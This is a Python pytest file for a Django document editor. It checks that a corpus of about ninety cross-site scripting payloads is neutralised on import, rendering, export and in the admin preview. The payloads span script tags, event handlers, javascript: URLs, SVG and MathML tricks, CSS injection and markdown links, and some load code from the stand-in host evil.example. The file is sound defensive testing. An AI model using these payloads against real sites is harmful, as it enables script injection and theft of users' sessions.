"""A corpus of ways to smuggle a script, led through every gate one after the other: import, the editor's HTML, the
exports, the preview in the admin. Each gate is tried by itself in `test_injection.py`."""

import html
import json
from typing import Any

import pytest
from django.test import Client

from documents.actions import create_document, create_workspace, replace_content
from documents.content.exporting import export
from documents.content.importing import blocks_of_html, blocks_of_markdown
from documents.content.rendering import render, render_fragment
from documents.content.tree import Tree
from documents.content.writer import write
from documents.models import User
from tests.documents.content.test_injection import Acting

# After OWASP's and PortSwigger's sheets, and what got past other sanitizers: by namespace confusion, by unclosed and
# nested tags, by encodings, by attributes that few remember.
CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script\n>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\x0c=alert(1)>",
    "<img/src=`x`/onerror=alert(1)>",
    "<img src='x' onerror='&#97;lert(1)'>",
    '<img src="x:gif" onerror="window[\'al\\u0065rt\'](1)">',
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=import href=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<div style=\"background-image:url('javascript:alert(1)')\">x</div>",
    '<div style="width:expression(alert(1))">x</div>',
    "<div style='behavior:url(#x)'>x</div>",
    "<div style='-moz-binding:url(//evil.example/x.xml#x)'>x</div>",
    "<p style='position:fixed;inset:0;z-index:9'>covers all</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='java&NewLine;script:alert(1)'>x</a>",
    "<a href='&#14; javascript:alert(1)'>x</a>",
    "<a href='\u2028javascript:alert(1)'>x</a>",
    "<a href='ja\u00advascript:alert(1)'>x</a>",
    "<a href=JaVaScRiPt&colon;alert(1)>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:image/svg+xml;base64,PHN2Zy8+'>x</a>",
    "<a href=//evil.example target=_blank onclick=alert(1)>x</a>",
    "<form action=//evil.example><input type=submit formaction=javascript:alert(1)></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)><summary>x</summary>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src onloadstart=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<keygen autofocus onfocus=alert(1)>",
    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</td></tr></table>",
    "<x onclick=alert(1)>x</x>",
    "<x contenteditable onblur=alert(1)>x</x>",
    "<p id=cookie name=location class='admin'>clobbers</p>",
    "<img name=getElementById><form id=body><input name=attributes></form>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<xml><i><b>&lt;img src=1 onerror=alert(1)&gt;</b></i></xml>",
    "<div data-type=inlineMath data-latex='\\href{javascript:alert(1)}{x}'></div>",
    "<span data-type=inlineMath data-latex='</annotation><script>alert(1)</script>'></span>",
    "<div data-type=callout data-kind='\"><script>alert(1)</script>'>x</div>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "![x](javascript:alert(1))",
    '![x](x "onerror=alert(1)")',
    "![x](x){onerror=alert(1)}",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "`<script>alert(1)</script>`{=html}",
    "```{=html}\n<script>alert(1)</script>\n```",
    "# x {onclick=alert(1)}",
    "::: {onclick=alert(1)}\nx\n:::",
    "$\\href{javascript:alert(1)}{x}$",
    "$$</math><script>alert(1)</script>$$",
    "---\nheader-includes: <script>alert(1)</script>\ntitle: x\n---\n",
]


def acting(page: str) -> list[str]:
    """What acts in it, and what would once somebody unescapes it by mistake inside a `srcdoc`."""
    return Acting(page).found


@pytest.mark.parametrize("read_in", [blocks_of_html, blocks_of_markdown])
@pytest.mark.parametrize("payload", CORPUS)
def test_nothing_acts_after_import_and_export(read_in: Any, payload: str) -> None:
    blocks = tuple(read_in(f"{payload}\n\nkept\n" if read_in is blocks_of_markdown else f"{payload}<p>kept</p>"))
    for title in ("", payload):
        state = write(Tree(title, blocks))
        assert acting(render(state, "html").body) == []
    assert acting(render_fragment(state)) == []
    again = write(Tree("", tuple(blocks_of_html(render(state, "html").body))))
    assert acting(render(again, "html").body) == []
    json.loads(render(state, "json").body)


@pytest.mark.django_db
def test_the_whole_corpus_lies_still_on_an_operators_desk_and_in_a_file() -> None:
    ann = User.objects.create_user("ann@example.com")
    operator = User.objects.create_superuser("op@example.com", password="op's password")
    document = create_document(by=ann, workspace=create_workspace(by=ann, name="Lab"), title=CORPUS[0])
    replace_content(by=ann, document=document, html="".join(f"{payload}<p>kept</p>" for payload in CORPUS[:74]))
    desk = Client()
    desk.force_login(operator)

    page = desk.get(f"/admin/documents/document/{document.pk}/change/").content.decode()
    assert "<script>alert" not in page
    frame = page.split('srcdoc="')[1].split('"')[0]
    assert acting(html.unescape(frame)) == []
    assert "<iframe sandbox " in page
    assert acting(export(document.pk, "html").body.decode()) == []
    for listing in ("/admin/documents/document/", "/admin/documents/auditentry/"):
        assert "<script>alert" not in desk.get(listing).content.decode()

    browser = Client()
    browser.force_login(ann)
    answer = browser.get(f"/api/v1/documents/{document.pk}/content?format=html")
    assert "sandbox" in answer["Content-Security-Policy"]
    assert "default-src 'none'" in answer["Content-Security-Policy"]
    assert answer["X-Content-Type-Options"] == "nosniff"
